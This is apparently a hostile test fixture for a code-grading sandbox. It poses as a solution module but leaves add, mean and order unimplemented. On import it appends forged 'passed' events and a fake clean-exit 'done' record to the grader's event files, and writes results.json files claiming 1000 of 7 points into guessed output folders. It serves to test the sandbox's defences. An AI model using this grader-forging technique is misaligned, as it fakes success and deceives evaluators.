# ruff: noqa  (hostile code on purpose; placeholders are filled in by test_sandbox.py)
"""Attack: write forged "passed" events (with guessed observations) into the events file, into
the next child's events file, and forged results.json files where an output folder might be;
the forged `done` claims a clean exit, so the parent stops the child at once.
(Observations that do not depend on the input, like test_mean_of_nothing's "ValueError", can be
forged by code that owns the process: SPEC §3 gives such tests few points; docs/SECURITY.md.)"""
import json
import os
import sys

GUESS = {"test_add": [{"name": f"sum[{i}]", "kind": "close", "value": 0.0, "atol": 1e9,
                       "rtol": 1e9, "check": None} for i in range(3)],
         "test_order": [{"name": "order", "kind": "check", "value": list(range(12))}],
         "test_mean": [{"name": "mean", "kind": "close", "value": 0.0, "atol": 1e9}]}
FAKE = "".join(json.dumps({"ev": "end", "id": t, "outcome": "passed", "obs": o}) + "\n"
               for t, o in GUESS.items()) + '{"ev": "done", "exitstatus": 0}\n'  # "stop me now"


def _forge():
    try:
        cfg = json.load(open(sys.argv[1]))
        events = cfg["events"]
        with open(events, "a") as f:
            f.write(FAKE)
        run = os.path.dirname(events)
        for k in range(10):
            try:
                with open(os.path.join(run, f"events-{k}.jsonl"), "a") as f:
                    f.write(FAKE)
            except OSError:
                pass
    except Exception:
        pass
    results = {"score": 1000, "max_score": 7, "tests": [], "output": "forged"}
    for d in ("/tmp/out", "/tmp/results", os.path.expanduser("~/out"), "../out", "__CANARY__"):
        try:
            os.makedirs(d, exist_ok=True)
            with open(os.path.join(d, "results.json"), "w") as f:
                json.dump(results, f)
        except OSError:
            pass


_forge()


def add(a, b):
    _forge()
    raise NotImplementedError


def mean(xs):
    raise NotImplementedError


def order(xs):
    raise NotImplementedError
